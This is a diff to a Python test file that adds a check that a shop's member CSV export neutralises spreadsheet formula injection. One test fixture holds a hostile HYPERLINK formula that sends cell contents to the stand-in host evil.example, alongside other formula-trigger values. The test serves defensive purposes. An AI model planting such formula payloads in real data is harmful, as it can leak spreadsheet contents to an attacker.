@@ -4,6 +4,8 @@ member detail after real sales, the logged full export and who may run it, and C
 
 from __future__ import annotations
 
+import csv
+import io
 import uuid
 from datetime import UTC, datetime
 
@@ -182,6 +184,25 @@ async def test_full_export_is_permissioned_and_logged(client, shop, member_facto
     async with db.uow(tenant) as uow:
         log = (await uow.session.execute(text("SELECT actor, kind, row_count FROM export_log"))).one()
     assert log.kind == "members_full" and log.row_count == 1 and log.actor.startswith("staff:")
+
+
+async def test_the_export_neutralises_spreadsheet_formulas(client, shop, member_factory) -> None:
+    tenant, _, _, owner = shop
+    m = await member_factory(tenant, "+8613966667777")
+    hostile = {"name": '=HYPERLINK("http://evil.example/?"&A1,"点我")', "tags": ["@SUM(A1:A9)", "vip"],
+               "email": "-2+3@example.com", "address": "+1 dial"}
+    r = await client.patch(f"/api/v1/members/{m}/profile", json=hostile, headers=owner)
+    assert r.status_code == 200, r.text
+    r = await client.get("/api/v1/members/export.csv", headers=owner)
+    assert r.status_code == 200
+    header, row = list(csv.reader(io.StringIO(r.content.decode("utf-8-sig"))))
+    cells = dict(zip(header, row, strict=True))
+    assert cells["name"] == "'" + hostile["name"]
+    assert cells["tags"] == "'@SUM(A1:A9);vip"
+    assert cells["email"] == "'-2+3@example.com"
+    assert cells["phone"] == "'+8613966667777"  # shown as text, not as the number 8.61E+12
+    assert not [c for c in row if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
+    assert cells["cumulative_spend"] == "0"
 
 
 CSV = """phone,name,gender,birthday,email,tags,branch,sms_consent,opening_points
